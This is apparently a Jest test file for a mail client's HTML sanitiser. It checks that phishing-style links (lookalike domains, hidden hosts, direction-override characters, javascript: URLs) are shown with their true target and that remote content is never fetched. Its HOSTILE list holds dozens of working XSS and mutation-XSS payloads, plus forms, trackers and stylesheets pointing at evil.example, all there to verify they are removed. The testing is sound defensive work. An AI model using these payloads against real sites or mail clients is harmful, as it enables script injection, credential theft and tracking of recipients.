import { afterAll, describe, expect, it } from '@jest/globals';
import { createMailParser } from '../../../src/intake/parse/index.js';

const parser = createMailParser();
afterAll(() => parser.close());

const mailOf = (html: string, type = 'text/html; charset=utf-8') =>
  Buffer.from(`From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\n\r\n${html}\r\n`);

const laidOut = (html: string) => parser.layout(mailOf(html));

describe('how a page was laid out', () => {
  it('keeps what gives it its shape', async () => {
    const html =
      '<h1>Hello</h1><p dir="rtl">One <b>two</b><br>three</p><ul><li>a</li></ul><ol start="3"><li>b</li></ol>' +
      '<blockquote>said</blockquote><table><tbody><tr><td colspan="2">x</td></tr></tbody></table><hr>';
    expect(await laidOut(html)).toBe(
      '<p><strong>Hello</strong></p><p dir="rtl">One <b>two</b><br>three</p><ul><li>a</li></ul><ol start="3"><li>b</li></ol>' +
        '<blockquote>said</blockquote><table><tbody><tr><td colspan="2">x</td></tr></tbody></table><hr>',
    );
  });

  it.each([
    [
      'its words say something else',
      '<a href="https://evil.example/x?y=1">my bank</a>',
      'my bank (https://evil.example/x?y=1)',
    ],
    ['its words say the same', '<a href="https://a.example/">https://a.example</a>', 'https://a.example'],
    [
      'letters only look like others',
      '<a href="https://аpple.com/">apple.com</a>',
      'apple.com (https://xn--pple-43d.com/)',
    ],
    [
      'another name stands before it',
      '<a href="https://bank.example%2Flogin:x@evil.example/">https://bank.example%2Flogin:x@evil.example/</a>',
      'https://bank.example%2Flogin:x@evil.example/ (https://evil.example/)',
    ],
    [
      'its name is so long that its end would not show',
      `<a href="https://www.bank.example.${'a.'.repeat(100)}evil.example/">go</a>`,
      `go (https://…${'a.'.repeat(44)}evil.example/)`,
    ],
    [
      'its words turn the direction',
      '<a href="https://evil.example/moc.knab//:sptth">\u202ego\u2067</a>',
      'go (https://evil.example/moc.knab//:sptth)',
    ],
    ['it is a mailbox', '<a href="mailto:a@b.example?subject=x">write</a>', 'write (a@b.example)'],
    ['it runs something', '<a href="javascript:alert(1)">go</a>', 'go'],
    ['it hides what it runs', '<a href="java\tscript:alert(1)">go</a>', 'go'],
    ['it is data', '<a href="data:text/html,x">go</a>', 'go'],
    ['it is inside of this house', '<a href="/desk/practice">go</a>', 'go'],
    [
      'it is very long',
      `<a href="https://a.example/${'x'.repeat(500)}">go</a>`,
      `go (https://a.example/${'x'.repeat(182)}…)`,
    ],
  ])('says in words where a link leads: %s', async (_name, html, words) => {
    expect(await laidOut(`<p>${html}</p>`)).toBe(`<p>${words}</p>`);
  });

  it('names pictures and fetches none', async () => {
    expect(await laidOut('<p>See <img src="https://a.example/p.gif" alt="our <b> house"><img src="cid:x"></p>')).toBe(
      '<p>See [our &#x3C;b> house]</p>',
    );
  });

  it('shows what its styles would have hidden', async () => {
    const html = '<style>.x{display:none}</style><p class="x" style="display:none" hidden>There</p>';
    expect(await laidOut(html)).toBe('<p>There</p>');
  });

  it.each([
    ['there is nothing', ''],
    ['a picture without a name', '<img src="https://a.example/1.gif">'],
    ['scripts alone', '<script>alert(1)</script><style>p{}</style><title>t</title>'],
    ['empty tables', '<table><tr><td> </td></tr></table>'],
  ])('is nothing where %s', async (_name, html) => {
    expect(await laidOut(html)).toBeNull();
  });

  it('is nothing of a mail in plain words, and of one that is encrypted', async () => {
    expect(await parser.layout(mailOf('<b>words</b>', 'text/plain'))).toBeNull();
    const encrypted =
      '--x\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--x\r\nContent-Type: application/octet-stream\r\n\r\n' +
      '-----BEGIN PGP MESSAGE-----\r\n\r\nx\r\n-----END PGP MESSAGE-----\r\n--x\r\nContent-Type: text/html\r\n\r\n<b>beside</b>\r\n--x--';
    const type = 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary=x';
    expect(await parser.layout(mailOf(encrypted, type))).toBeNull();
    expect(await parser.parse(mailOf(encrypted, type))).toMatchObject({ laidOut: false });
    expect(await parser.parse(mailOf('<b>x</b>'))).toMatchObject({ laidOut: true });
  });

  it('that is nested beyond all measure is not shown, and the next one is', async () => {
    expect(await laidOut(`${'<div>'.repeat(150_000)}deep`)).toBeNull();
    expect(await laidOut('<p>next</p>')).toBe('<p>next</p>');
  });
});

/** What could run, fetch, lead away, send or look like ours, by what it tries. After OWASP's and DOMPurify's collections. */
const HOSTILE: readonly (readonly [string, string])[] = [
  ['a script', '<script src="https://evil.example/x.js">alert(1)</script>'],
  ['an event', '<p onclick="alert(1)" onmouseover=alert(1)>x</p><img src=x onerror=alert(1)>'],
  ['an event with a slash', '<svg/onload=alert(1)><img/src="x"/onerror=alert(1)>'],
  ['a frame', '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe><frame src=x>'],
  ['an object', '<object data="https://evil.example/x.swf"><embed src="x"></object><applet code=x></applet>'],
  [
    'a form of ours',
    '<form action="/desk/requests/R-1/close" method=post><input name=_csrf><button formaction=x>Close</button></form>',
  ],
  ['a form far away', '<form action="https://evil.example"><input type=password name=p><textarea>x</textarea></form>'],
  ['a base', '<base href="https://evil.example/"><p>x</p>'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>x</p>'],
  [
    'a style sheet',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example"</style>',
  ],
  [
    'a picture in a style',
    '<p style="background:url(https://evil.example/x)">x</p><table background="https://evil.example/x"></table>',
  ],
  [
    'sets of pictures',
    '<picture><source srcset="https://evil.example/x"><img srcset="https://evil.example/x 2x" src=x></picture>',
  ],
  [
    'sound and film',
    '<video poster="https://evil.example/x" src=x></video><audio src="https://evil.example/x" autoplay></audio>',
  ],
  ['a tracker', '<img src="https://evil.example/open?id=42" width=1 height=1><bgsound src=x>'],
  [
    'markup in another language',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  [
    'markup in a drawing',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject><script>alert(1)</script></foreignObject></svg>',
  ],
  ['a style in a drawing', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['what a browser without scripts reads', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a template', '<template><img src=x onerror=alert(1)></template><p>x</p>'],
  ['a comment', '<!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->'],
  [
    'a document within',
    '<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE x [<!ENTITY a "b">]>',
  ],
  [
    'names that shadow ours',
    '<p id="lines" name="body" class="button main">x</p><img name=cookie><form id=getElementById></form>',
  ],
  ['raw text', '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>'],
  ['halves of tags', '<<script>alert(1)//<</script><scr<script>ipt>alert(1)</script><p <script>x'],
  ['a marquee and its end', '<marquee onfinish=alert(1)>x</marquee><details ontoggle=alert(1) open>x</details>'],
  ['letters turned round', '<bdo dir=rtl>x</bdo><p dir="&quot; onclick=alert(1)">x</p>'],
  [
    'a portal and other new things',
    '<portal src="https://evil.example"></portal><dialog open>x</dialog><input autofocus onfocus=alert(1)>',
  ],
  ['a NUL and a byte order mark', '<scr\u0000ipt>alert(1)</scr\u0000ipt>\ufeff<img src=x onerror\u0000=alert(1)>'],
];

/** The tags and attributes that may be there at all. */
const HARMLESS =
  /^<(?:\/[a-z]+|(?:p|div|span|br|hr|center|address|blockquote|pre|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|td|th|b|strong|i|em|u|s|strike|del|ins|sub|sup|small|code|q|cite)(?: (?:dir="(?:ltr|rtl|auto)"|start="\d+"|(?:col|row)span="\d+"))*)>$/;

it.each(HOSTILE)('nothing of %s is left that does anything', async (_name, html) => {
  const left = (await laidOut(`<p>Words.</p>${html}`)) ?? '';
  expect(left).toContain('<p>Words.</p>');
  for (const tag of left.match(/<[^>]*>/g) ?? []) expect(tag).toMatch(HARMLESS);
  // What is kept reads as the same to a browser, so nothing comes to life in a second reading.
  expect(await laidOut(left)).toBe(left);
});

describe('a file of a mail', () => {
  const mail = mailOf(
    `--x\r\n\r\nWords.\r\n--x\r\nContent-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from('%PDF one').toString('base64')}\r\n--x\r\nContent-Disposition: attachment; filename=b\r\n\r\ntwo\r\n--x--`,
    'multipart/mixed; boundary=x',
  );

  it('is given byte by byte, by its place', async () => {
    expect((await parser.file(mail, { at: 0, keys: null }))?.toString()).toBe('%PDF one');
    expect((await parser.file(mail, { at: 1, keys: null }))?.toString()).toBe('two');
  });

  it('is nothing where there is none', async () => {
    for (const at of [2, -1, 0.5, Number.NaN]) expect(await parser.file(mail, { at, keys: null })).toBeNull();
    expect(await parser.file(mailOf('x', 'text/plain'), { at: 0, keys: null })).toBeNull();
  });
});
